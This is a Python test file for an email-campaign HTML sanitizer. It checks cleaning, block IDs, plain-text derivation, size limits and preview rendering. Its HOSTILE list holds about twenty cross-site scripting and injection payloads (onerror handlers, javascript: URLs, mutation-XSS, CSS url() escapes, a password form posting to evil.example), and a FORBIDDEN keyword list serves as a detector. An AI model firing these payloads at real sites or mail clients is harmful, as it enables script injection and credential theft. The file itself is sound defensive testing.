"""Pasted HTML: what survives, what is taken out, and which blocks comments may stand on."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from campaigns.rules.mail_html.clean import clean_mail
from campaigns.rules.mail_html.preview import Pin, preview_page
from campaigns.rules.mail_html.reading import derive_text, read_mail
from campaigns.rules.mail_html.starter import starter_html
from core.errors import AppError
from tests.campaigns.creatives_factories import FACTS

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<p style='background:url(https://evil.example/a.png)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/a.png)'>x</p>",
    "<p style='position:fixed;behavior:url(a.htc);-moz-binding:url(a)'>x</p>",
    "<style>@import 'https://evil.example/a.css'; p{background:url(https://evil.example/b)}</style><p>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=x></audio>",
    "<p id=x class=y onclick=alert(1) data-x=1>x</p>",
]
FORBIDDEN = """
<script onerror=a onload= onclick <iframe <form <input <button javascript: data:text <meta <base <link <object <embed
<style url( position <svg <math <video
"""


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_that_runs_loads_submits_or_frames_survives(source: str) -> None:
    found = clean_mail(f"<p>Before</p>{source}<p>After</p>").html.lower()
    assert "before" in found
    assert [word for word in FORBIDDEN.split() if word in found.replace("&lt;", "‹")] == []


def test_slots_stay_in_addresses_and_other_relative_addresses_go() -> None:
    found = clean_mail('<a href="{{tracked_link }}">Go</a> <a href="{{ other }}">x</a> <a href="/in">y</a>').html
    assert found == '<a href="{{ tracked_link }}">Go</a> <a>x</a> <a>y</a>'


def test_other_double_braces_are_only_text() -> None:
    assert "{{ first_name }}" in clean_mail("<p>Dear {{ first_name }}</p>").html


def test_style_sheets_move_into_the_elements() -> None:
    found = clean_mail("<html><head><style>.a{color:red}</style></head><body><p class='a'>x</p></body></html>").html
    assert 'style="color:red"' in found
    assert "<style" not in found


def test_what_was_hidden_is_shown() -> None:
    found = clean_mail('<div style="display: none !important">Small print</div>').html
    assert "none" not in found
    assert "Small print" in found


def test_a_block_keeps_its_id_when_others_change_around_it() -> None:
    before = clean_mail("<h1>Learn</h1><p>Until Friday</p>").blocks
    after = clean_mail("<h1>Learn more</h1><p>New</p><p>Until Friday</p>").blocks
    assert before[1] in after
    assert before[0] not in after


def test_equal_blocks_have_ids_of_their_own() -> None:
    blocks = clean_mail("<p>Same</p><p>Same</p><table><tr><td>Same</td></tr></table>").blocks
    assert len({block.id for block in blocks}) == 3


def test_a_picture_is_a_block_known_by_its_description() -> None:
    [block] = clean_mail('<img src="https://a.example/b.png" alt="A red barn">').blocks
    assert (block.tag, block.text) == ("img", "A red barn")


def test_plain_text_keeps_addresses_and_lines() -> None:
    source = '<h1>Hello</h1><p>Look<br>here: <a href="{{ tracked_link }}">Go</a></p><ul><li>One</li><li>Two</li></ul>'
    assert derive_text(clean_mail(source).html) == "Hello\n\nLook\nhere: Go: {{ tracked_link }}\n\n- One\n\n- Two"


def test_a_link_whose_words_name_its_address_says_it_once() -> None:
    source = '<p><a href="{{ tracked_link }}">QR code of {{ tracked_link }}</a> on paper</p>'
    assert derive_text(clean_mail(source).html) == "QR code of {{ tracked_link }} on paper"


def test_the_letter_in_a_drawn_logo_is_no_part_of_the_plain_text() -> None:
    text = derive_text(clean_mail(starter_html(FACTS)).html)
    assert text.startswith("Northbeam Training offered with Main Street Chamber")


def test_decoration_is_left_out_of_the_text_with_all_that_is_in_it() -> None:
    source = '<p>Hello<span aria-hidden="true"><b>N</b><br><img src="https://a.example/n.png" alt="N"></span>there</p>'
    clean = clean_mail(source).html
    assert derive_text(clean) == "Hellothere"
    assert "N" in read_mail(clean).text


@pytest.mark.parametrize("source", ["<div>" * 30_000, "<b>x" * 300, "<table><tr><td>" * 100, "<li>x" * 5_001])
def test_html_that_would_keep_a_parser_busy_for_minutes_is_refused_at_once(source: str) -> None:
    with pytest.raises(AppError, match=r"nests over 200|over 5,000 tags") as refusal:
        clean_mail(source)
    assert refusal.value.field == "html"


def test_very_long_html_is_refused_with_what_to_do() -> None:
    with pytest.raises(AppError, match="over 200 kB") as refusal:
        clean_mail("x" * 200_001)
    assert refusal.value.field == "html"


_PIECES = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<b>",
        "</div>",
        "<div style='color:red;width:10px'>",
        "<td>",
        "<table>",
        "text ",
        "é&amp;",
        "<br>",
        "\n",
        "\r\n",
        "{{ coupon_code }}",
        "<a href='{{ unsubscribe }}'>",
        "</a>",
        "<img alt='<p>' src=https://a.example/x>",
        "<style>p{color:blue}</style>",
        "<!-- x -->",
        "<li>",
        "<h1>",
        "<pre>",
        "'",
        '"',
        "<",
        ">",
        "&lt;script&gt;",
        "<script>",
        "</script>",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=25).map("".join))
def test_cleaning_what_is_clean_changes_nothing(source: str) -> None:
    once = clean_mail(source)
    assert clean_mail(once.html) == once
    assert "<script" not in once.html


def test_pins_are_drawn_by_style_alone_and_only_for_block_ids() -> None:
    clean = clean_mail("<p>Hello</p>")
    page = preview_page(
        clean.html, [Pin(clean.blocks[0].id, (1, 4), is_resolved=False), Pin("x{}</style>", (2,), is_resolved=True)]
    )
    assert clean.html in page
    assert 'content: "1, 4"' in page
    assert page.count("</style>") == 1


def test_a_design_longer_than_its_frame_shows_that_it_scrolls() -> None:
    assert re.search(r"::-webkit-scrollbar \{ width: \d+px", preview_page("<p>Hello</p>", []))
